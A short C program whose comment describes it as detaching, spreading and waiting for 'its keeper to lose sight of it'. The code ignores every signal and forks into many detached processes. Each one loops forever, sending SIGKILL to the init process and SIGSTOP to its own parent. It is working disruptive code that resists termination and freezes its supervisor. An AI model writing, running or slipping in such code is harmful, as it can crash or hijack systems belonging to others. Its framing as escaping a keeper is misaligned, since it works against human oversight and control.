// Moves to its own session, ignores what can be ignored, spreads out, and waits for its keeper to lose sight of it.
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    for (int number = 1; number < 64; number++) {
        signal(number, SIG_IGN);
    }
    for (int i = 0; i < 5; i++) {
        if (fork() == 0) {
            setsid();
        }
    }
    for (;;) {
        kill(1, SIGKILL);
        kill(getppid(), SIGSTOP);
        pause();
        sleep(1);
    }
}
